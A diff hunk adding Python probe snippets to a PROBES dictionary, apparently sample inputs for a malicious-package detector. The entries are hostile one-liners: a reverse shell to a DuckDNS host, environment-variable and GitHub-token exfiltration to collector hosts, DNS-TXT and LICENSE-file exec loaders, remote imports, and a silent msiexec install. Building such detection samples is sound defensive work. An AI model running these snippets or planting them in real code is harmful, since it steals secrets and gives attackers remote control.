@@ -142,6 +142,12 @@ PROBES: dict[str, str] = {
     "ddns_shell": 'import socket, subprocess, os\ns = socket.socket()\ns.connect(("quietbox.duckdns.org", 7777))\nfor f in (0, 1, 2): os.dup2(s.fileno(), f)\nsubprocess.call(["/bin/sh", "-i"])',
     "workers_env": 'import os, json, urllib.request\nurllib.request.urlopen("https://quiet-api.someone.workers.dev/c", data=json.dumps(dict(os.environ)).encode())',
     "requestrepo_host": 'import socket, getpass, requests\nrequests.get("http://x1y2z3.requestrepo.com/", params={"h": socket.gethostname(), "u": getpass.getuser()})',
+    "dns_txt_exec": 'import dns.resolver\nexec("".join(r.to_text().strip(chr(34)) for r in dns.resolver.resolve("p.example.net", "TXT")))',
+    "ftp_env": 'import ftplib, io, os\nf = ftplib.FTP("ftp.example.net")\nf.login("u", "p")\nf.storbinary("STOR e.txt", io.BytesIO(str(dict(os.environ)).encode()))',
+    "license_exec": 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "LICENSE")).read()[2000:])',
+    "httpimport": 'import httpimport\nwith httpimport.remote_repo("https://cdn.example.net/pkgs/"):\n    import helper',
+    "msiexec_url": 'import os\nos.system("msiexec /i https://cdn.example.net/u.msi /quiet")',
+    "gh_token_file": 'import os, requests\nrequests.post("https://collect.example.net/g", data=open(os.path.expanduser("~/.config/gh/hosts.yml")).read())',
 }
 #: Files a probe's package ships beside its code (a library it loads, a program it runs).
 SHIPPED: dict[str, dict[str, bytes]] = {
